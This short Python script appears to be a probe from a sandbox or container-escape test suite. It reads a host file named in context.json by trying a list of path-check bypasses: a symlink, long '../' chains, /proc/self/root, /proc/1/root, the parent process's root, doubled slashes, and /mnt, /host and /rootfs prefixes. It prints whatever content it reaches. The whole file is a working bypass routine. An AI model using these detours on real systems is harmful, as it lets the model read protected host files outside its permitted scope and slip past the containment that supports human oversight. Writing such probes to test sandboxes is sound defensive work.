"""
Reads a file of the host by ways around a check of its path.

Success: its content is printed.
Local: open
"""
import json
import os

path = json.load(open("context.json"))["file"]
os.symlink(path, "link")
detours = [
    "link",
    "../" * 20 + path,
    "/proc/self/root" + path,
    "/proc/1/root" + path,
    "/proc/1/cwd/../../../.." + path,
    f"/proc/{os.getppid()}/root" + path,
    "/./" + path,
    "//" + path,
    "/mnt" + path,
    "/host" + path,
    "/rootfs" + path,
]
for detour in detours:
    try:
        print(open(detour).read())
    except OSError as error:
        print(error)
